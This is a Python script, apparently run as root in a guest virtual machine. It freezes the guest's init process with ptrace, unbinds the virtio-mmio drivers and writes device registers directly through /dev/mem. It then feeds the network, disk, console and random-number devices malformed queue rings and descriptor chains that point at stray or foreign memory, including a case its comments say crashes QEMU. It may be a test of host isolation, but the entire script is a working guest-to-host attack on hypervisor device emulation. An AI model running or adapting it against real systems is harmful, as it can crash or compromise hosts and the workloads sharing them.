# Root of a guest that takes all devices of its machine for itself, and tells them by hand what no driver would: rings and chains that make
# no sense. What drives the machine is stopped, so nothing is said before the end; and that by hand too, over the port to the host.
# First, only what may write to this program's own memory; then whatever there is. Source: Virtual I/O Device 1.2, 2.6 to 2.7 and 4.2.
import ctypes, fcntl, json, mmap, os, random, socket, struct, sys, time
random.seed(7)
ROUNDS, WILD = int(sys.argv[1]), int(sys.argv[2])
with open("/workspace/network.json") as file: known = json.load(file)
NET, DISK, CONSOLE, RANDOM = 1, 2, 3, 4
NAMES = {NET: "net", DISK: "disk", CONSOLE: "console", RANDOM: "random"}
QUEUES = {NET: [0, 1, 2, 3], DISK: [0, 1], CONSOLE: [0, 1, 2, 3, 4, 6, 8, 5, 7], RANDOM: [0, 1]}
# Of the ports, those that reach the host: it ends a machine that talks nonsense on the one, and the other is for words about all this.
CONTROL, STREAM = 5, 7
NEXT, WRITES, TABLE = 1, 2, 4
PATIENCE = 60
libc = ctypes.CDLL(None, use_errno=True)
def station(name):
    with socket.socket() as probe: return fcntl.ioctl(probe, 0x8927, struct.pack("256s", name.encode()))[18:24]
def total(data):
    words = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while words >> 16: words = (words & 0xffff) + (words >> 16)
    return ~words & 0xffff
def frame(payload):
    inner = struct.pack("!HHHH", 4000, known["port"], 8 + len(payload), 0) + payload
    addresses = [socket.inet_aton(known[name]) for name in ("own", "allowed")]
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(inner), 1, 0, 64, 17, 0, *addresses)
    return there + here + b"\x08\x00" + head[:10] + struct.pack("!H", total(head)) + head[12:] + inner
here = station("eth0")
# The control, and the router becomes known.
with socket.create_connection((known["allowed"], known["port"]), timeout=PATIENCE) as stream: answer = stream.makefile().read()
with open("/proc/net/arp") as file: found = next(line.split()[3] for line in file if line.split()[0] == known["router"])
there = bytes.fromhex(found.replace(":", ""))
# Memory in one piece, so that what is written beyond a page is still this program's: rings, a table of chains, data.
with open("/proc/sys/vm/nr_hugepages", "w") as file: file.write("1")
own = mmap.mmap(-1, 2 << 20, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40000 | 0x8000)
own[:] = bytes(len(own))
with open("/proc/self/pagemap", "rb") as file:
    file.seek(ctypes.addressof(ctypes.c_char.from_buffer(own)) // 4096 * 8)
    place = (int.from_bytes(file.read(8), "little") & (1 << 55) - 1) * 4096
assert place > 0 and place % (2 << 20) == 0
RING, TABLES, DATA, MOST = 8192, 96 << 10, 128 << 10, 1 << 20
# Of devices, from the last one on: ports, random numbers, the scratch disk.
WINDOW, PLACES, SCRATCH = 0xfeb00000, 24, 21
NOWHERE = (1 << 40, (1 << 64) - 8)
ODD = (0, 1, WINDOW, 0xfee00000, *NOWHERE, place)
SIZES = (0, 1, 12, 15, 16, 17, 512, 4096, 1 << 20, (1 << 31) - 1, (1 << 32) - 1)
SHORT, LONG = frame(b"honest ring"), frame(b"honest ring" * 130)
class Device:
    def __init__(self, pages, number):
        self.window, self.base = pages[number // 8], number % 8 * 512
        self.kind, self.version = self.get(8), self.get(4)
        self.name = NAMES[self.kind] + str(number)
        # What this machine writes, and nobody else.
        self.is_own = number == SCRATCH
    def get(self, at): return ctypes.c_uint32.from_buffer(self.window, self.base + at).value
    def put(self, at, value): ctypes.c_uint32.from_buffer(self.window, self.base + at).value = value & 0xffffffff
    def reset(self, features=0):
        for status in (0, 1, 3): self.put(0x70, status)
        self.put(0x24, 0)
        self.put(0x20, features)
        if self.version == 1: self.put(0x28, 4096)
        else: self.put(0x70, 11)
    def queue(self, index, ring, size=16, align=4096):
        self.put(0x30, index)
        self.put(0x38, size)
        if self.version == 1:
            self.put(0x3c, align)
            self.put(0x40, ring // 4096)
        else:
            for at, value in ((0x80, ring), (0x90, ring + 256), (0xa0, ring + 4096)):
                self.put(at, value)
                self.put(at + 4, value >> 32)
            self.put(0x44, 1)
    def ready(self): self.put(0x70, 7 if self.version == 1 else 15)
    # One chain of parts, on a queue of a device that has just been reset: written to it, or bytes that it is to write. What it has used.
    def ask(self, index, *parts):
        at, chain = DATA, b""
        for number, part in enumerate(parts):
            writes = isinstance(part, int)
            length = part if writes else len(part)
            own[at:at + length] = bytes(length) if writes else part
            flags = (WRITES if writes else 0) | (NEXT if number + 1 < len(parts) else 0)
            chain += struct.pack("<QIHH", place + at, length, flags, number + 1)
            at += length + 15 & ~15
        own[0:RING] = bytes(RING)
        own[0:len(chain)] = chain
        own[256:262] = struct.pack("<HHH", 0, 1, 0)
        self.queue(index, place)
        self.ready()
        self.put(0x50, index)
        until = time.monotonic() + PATIENCE
        while own[4098:4100] != b"\x01\x00" and time.monotonic() < until: pass
        used, = struct.unpack("<I", own[4104:4108])
        at, said = DATA, []
        for part in parts:
            length = part if isinstance(part, int) else len(part)
            if isinstance(part, int): said.append(own[at:at + length])
            at += length + 15 & ~15
        return own[4098:4100] == b"\x01\x00", used, said
    # It does what it is there for.
    def works(self):
        self.reset()
        if self.kind == RANDOM:
            done, used, said = self.ask(0, 64)
            return done and used > 0 and any(said[0])
        if self.kind == NET:
            done, _, _ = self.ask(1, bytes(10), frame(b"honest, by hand " + self.name.encode()))
            self.reset()
            heard, used, _ = self.ask(0, 10, 2048)
            return done and heard and used >= 10 + 14
        if self.kind == DISK:
            done, _, said = self.ask(0, struct.pack("<IIQ", 0, 0, 2), 512, 1)
            reads = done and said[1] == b"\0" and (said[0][:4] == b"\xe2\xe1\xf5\xe0" or self.is_own)
            mine = random.randbytes(512)
            self.reset()
            done, _, said = self.ask(0, struct.pack("<IIQ", 1, 0, 4096), mine, 1)
            if not self.is_own: return reads and done and said[0] == b"\x01"
            written = done and said[0] == b"\0"
            self.reset()
            done, _, said = self.ask(0, struct.pack("<IIQ", 0, 0, 4096), 512, 1)
            return reads and written and done and said[0] == mine
        return True
    # What such a device is told: of a network the head of a frame and the frame, of ports what they do, of disks what is asked for where.
    def data(self):
        pick = random.choice
        if self.kind == NET:
            numbers = [pick([0, 10, 54, 1460, 0xffff]) for _ in range(4)]
            head = struct.pack("<BBHHHH", pick([0, 1, 2, 0xff]), pick([0, 1, 3, 4, 0x80, 0x81, 0xff]), *numbers)
            return pick([head + SHORT, head + LONG, random.randbytes(64), bytes(range(6)) * 4])
        if self.kind == CONSOLE:
            return struct.pack("<IHH", pick([0, 1, 2, 3, 31, 0xffffffff]), pick([*range(9), 0xffff]), pick([0, 1, 0xffff]))
        if self.kind == DISK:
            return struct.pack("<IIQ", pick([0, 1, 4, 8, 11, 13, 0xffffffff]), 0, pick([0, 1, (1 << 63) - 1, (1 << 64) - 1]))
        return random.randbytes(16)
    def descriptor(self, index, wild):
        flags = random.choice([0, 1, 1, 1, 2, 3, 3, 4, 5, 7, 0xffff])
        address, size = random.choice([DATA, DATA, DATA + random.randrange(16) * 4096]) + place, random.choice(SIZES)
        if flags & TABLE and (not wild or random.random() < .7): address, size = TABLES + place, random.choice([16, 64, 256, 8, 4096])
        elif flags & WRITES and not wild:
            # More than this program has would be somebody else's. Of a frame, less than its head ends QEMU (an assertion in `util/iov.c`).
            size = min(size, MOST) if self.kind != NET else size and max(16, min(size, MOST))
            if random.random() < .2: address = random.choice(NOWHERE)
        elif random.random() < .3: address = random.choice(ODD) + random.choice([0, 0, self.base])
        # A disk that is only read sees what is too much for it. Of others the host would have it on a disk, or the monitor in memory, or it
        # would make as many random numbers.
        if self.kind != DISK or self.is_own: size = min(size, 64 if self.kind == RANDOM else MOST)
        following = random.choice([index + 1, index + 1, index, 0, 15, 16, 0xffff])
        return struct.pack("<QIHH", address & (1 << 64) - 1, size, flags, following)
    def round(self, wild):
        for at in range(DATA, DATA + (16 << 12), 4096):
            piece = self.data()
            own[at:at + len(piece)] = piece
        own[TABLES:TABLES + 256] = b"".join(self.descriptor(index, wild) for index in range(16))
        self.reset(random.choice([0, 0, 1 << 28, 1 << 29, 0xffffffff]))
        spared = () if self.kind != CONSOLE else (STREAM,) if wild else (CONTROL, STREAM)
        queues = [index for index in QUEUES[self.kind] if index not in spared]
        chosen = random.sample(queues, min(2, len(queues)))
        for number, index in enumerate(chosen):
            ring = number * RING
            own[ring:ring + 256] = b"".join(self.descriptor(index, wild) for index in range(16))
            flags, count = random.choice([0, 1, 0xffff]), random.choice([1, 1, 2, 15, 16, 17, 0x8000, 0xffff])
            heads = random.choices([0, 0, 1, 5, 15, 16, 0x7fff, 0xffff], k=16)
            own[ring + 256:ring + 292] = struct.pack("<18H", flags, count, *heads)
            at = place + ring
            if random.random() < .1: at = random.choice(NOWHERE + (ODD if wild else ()))
            align = random.choice([4096, 4096, 512, 1] + ([0, 1 << 30] if wild else []))
            self.queue(index, at, random.choice([16, 16, 16, 8, 0, 3, 0xffff]), align)
        self.ready()
        for index in [*chosen, random.choice([0, 1, 9, 0xffff]), *chosen]: self.put(0x50, index)
        self.get(0x60)
    def attack(self, rounds, wild):
        for _ in range(rounds): self.round(wild)
        self.put(0x70, 0)
print("ready for the rings", answer, flush=True)
sys.stdin.readline()
# All of this program, before its disk is gone; and who would end the machine because its ports are.
for call in (lambda: libc.mlockall(3), lambda: libc.ptrace(0x4206, 1, None, None), lambda: libc.ptrace(0x4207, 1, None, None)):
    if call() != 0: sys.exit(os.strerror(ctypes.get_errno()))
os.waitpid(1, 0x40000000)
os.sync()
driver, memory = "/sys/bus/platform/drivers/virtio-mmio", os.open("/dev/mem", os.O_RDWR)
unbind = os.open(driver + "/unbind", os.O_WRONLY)
for name in os.listdir(driver):
    if name.startswith("LNRO0005"): os.write(unbind, name.encode())
pages = [mmap.mmap(memory, 4096, offset=WINDOW + page * 4096) for page in range(3)]
def is_there(number):
    magic, _, kind = struct.unpack_from("<III", pages[number // 8], number % 8 * 512)
    return magic == 0x74726976 and kind in NAMES
found = [Device(pages, number) for number in range(PLACES) if is_there(number)]
console = next(device for device in found if device.kind == CONSOLE)
def tell(text):
    for at in range(0, len(text), 1024):
        console.reset()
        console.ask(STREAM, text[at:at + 1024].encode())
said = []
for device in found:
    before = device.works()
    device.attack(ROUNDS, False)
    said.append("ring %s %s %s\n" % (device.name, before, device.works()))
tell("".join(said) + "probe rings %d devices\n" % len(found))
# What ends the machine comes last.
for device in sorted(found, key=lambda device: (device.kind == NET, device.kind == CONSOLE)): device.attack(WILD, True)
tell("probe wild done\n")
